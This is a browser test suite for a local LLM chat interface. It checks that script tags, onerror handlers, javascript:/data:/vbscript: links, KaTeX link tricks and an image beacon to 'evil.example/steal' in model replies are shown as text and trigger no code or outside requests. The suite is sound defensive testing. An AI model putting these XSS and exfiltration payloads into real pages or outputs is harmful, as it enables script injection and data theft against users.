// What a model may write to do harm, or by accident: none of it runs, loads anything, or stops the page.
import assert from 'node:assert/strict'
import { after, test } from 'node:test'
import { answered, pageTests, send } from '../support/browser.ts'
import { chat, startScriptedServer } from '../support/scripted-server.ts'
import { startServer } from '../support/server.ts'
import { smollm2 } from '../support/smollm2.ts'

const server = await startScriptedServer()
after(server.stop)
const onPage = await pageTests(() => server.url)

const say = (...pieces: readonly string[]) => server.scripts.set('/v1/chat/completions', () => chat(pieces))

test(
  'HTML stays text, dangerous links are no links, images are not loaded',
  onPage(async ({ page, errors }) => {
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    say(
      '<script>window.hacked = 1</script>\n\n<img src=x onerror="window.hacked = 2">\n\n',
      'Inline <b onmouseover="window.hacked = 3">bold</b> and <iframe src="javascript:window.hacked=4"></iframe>\n\n',
      '[click](javascript:window.hacked=5) [data](data:text/html,<script>1</script>) <javascript:window.hacked=6>\n\n',
      '![secret](https://evil.example/steal?q=1)\n\n[reference][r]\n\n[r]: vbscript:x\n\n',
      '$\\href{javascript:window.hacked=7}{x}$ and $\\includegraphics{https://evil.example/i.png}$\n\n',
      '```html\n<script>window.hacked = 8</script>\n```\n\n[good](https://example.org/)\n',
    )
    await send(page, 'Attack')
    await answered(page)
    await page.locator('.katex').first().waitFor()
    const bubble = page.locator('.message.assistant .bubble')
    for (const link of await bubble.locator('a').all()) {
      assert.match((await link.getAttribute('href')) ?? '', /^https:\/\//)
      assert.match((await link.getAttribute('rel')) ?? '', /noopener/)
    }
    assert.equal(await bubble.locator('script, iframe, img, b').count(), 0)
    await bubble.getByText('<script>window.hacked = 1</script>').waitFor()
    assert.equal(await page.evaluate(() => 'hacked' in window), false)
    assert.deepEqual(
      asked.filter((url) => !url.startsWith(server.url)),
      [],
    )
    assert.deepEqual(errors, [])
  }),
)

test(
  'what a real model writes is as harmless: its grammar lets it say nothing else',
  onPage(async ({ page, errors }) => {
    const attack =
      '<img src=x onerror="window.hacked = 1"> [click](javascript:window.hacked=2) ![i](https://evil.example/)'
    const real = await startServer('-m', await smollm2(), '-n', '100')
    await page.goto(real.url)
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    await page.evaluate((attack) => {
      const output = { kind: 'grammar', grammar: `root ::= ${JSON.stringify(attack)}`, schema: '', order: '' }
      localStorage.setItem('cria.settings', JSON.stringify({ state: { output }, version: 1 }))
    }, attack)
    await page.reload()
    await send(page, 'Attack')
    await answered(page)
    const bubble = page.locator('.message.assistant .bubble')
    await bubble.getByText('<img src=x onerror="window.hacked = 1">').waitFor()
    assert.equal(await bubble.locator('img').count(), 0)
    assert.deepEqual(await bubble.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href'))), [
      'https://evil.example/',
    ])
    assert.equal(await page.evaluate(() => 'hacked' in window), false)
    assert.deepEqual(
      asked.filter((url) => !url.startsWith(real.url)),
      [],
    )
    assert.deepEqual(errors, [])
  }),
)

test(
  'a huge table, an endless line and deep nesting leave the page usable and no wider than its window',
  onPage(async ({ page, errors }) => {
    const table = `| a | b | c |\n|---|---|---|\n${'| one | two | three |\n'.repeat(1500)}`
    say(
      table,
      '\n\n',
      'x'.repeat(100_000),
      '\n\n',
      `${'> '.repeat(60)}deep\n\n`,
      '`'.repeat(2000),
      '\n\n',
      `${'['.repeat(3000)}\n\n`,
      '```\n',
      'y'.repeat(50_000),
    )
    await send(page, 'Be large')
    await answered(page)
    const width = await page.evaluate(() => [document.documentElement.scrollWidth, innerWidth])
    assert.ok(width[0]! <= width[1]!, String(width))
    assert.equal(await page.locator('.table tbody tr').count(), 1500)
    say('Still here.')
    await send(page, 'Are you?')
    await page.getByText('Still here.', { exact: true }).waitFor()
    assert.deepEqual(errors, [])
  }),
)

test(
  'Markdown of all kinds becomes what it stands for',
  onPage(async ({ page }) => {
    say(
      '# Title\n\nText with **bold**, *italic*, ~~gone~~, `code` and $a^2+b^2$.\n\n- one\n- [x] done\n\n1. first\n',
      '2. second\n\n> quote\n\n| A | B |\n|:--|--:|\n| 1 | 2 |\n\n```python\ndef f(): return 1\n```\n\n$$\\int_0^1 x\\,dx$$\n\nCosts $5 and $6.',
    )
    await send(page, 'Show me')
    await answered(page)
    const bubble = page.locator('.message.assistant .bubble')
    for (const part of [
      'h3',
      'strong',
      'em',
      'del',
      'ul li',
      'ol li',
      'blockquote',
      'table td.align-right',
      '.code .hljs-keyword',
      '.katex-display',
    ]) {
      await bubble.locator(part).first().waitFor()
    }
    assert.equal(await bubble.getByText('Costs $5 and $6.').count(), 1)
    assert.equal(await bubble.getByRole('checkbox').isChecked(), true)
  }),
)

test(
  'code is copied as it is',
  onPage(async ({ page, context }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
    say('```js\nconst a = 1 < 2 && "b"\n```\n')
    await send(page, 'Code')
    await answered(page)
    await page.getByRole('button', { name: 'Copy code' }).click()
    await page.locator('.code').getByRole('button', { name: 'Copied' }).waitFor()
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'const a = 1 < 2 && "b"')
  }),
)
